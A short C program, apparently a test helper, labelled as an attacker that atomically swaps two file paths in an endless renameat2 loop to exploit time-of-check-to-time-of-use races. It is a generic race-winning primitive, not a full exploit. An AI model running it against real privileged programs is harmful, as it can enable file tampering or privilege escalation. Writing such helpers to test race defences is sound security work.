/* The attacker without a gap: exchanges two paths atomically (renameat2 with RENAME_EXCHANGE) until killed. cc -O2 -o exchange exchange.c */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/prctl.h>
#include <signal.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif

int main(int count, char **words) {
  if (count != 3) return 2;
  prctl(PR_SET_PDEATHSIG, SIGKILL);
  for (;;)
    if (renameat2(AT_FDCWD, words[1], AT_FDCWD, words[2], RENAME_EXCHANGE) != 0) {
      perror("exchange");
      return 1;
    }
}
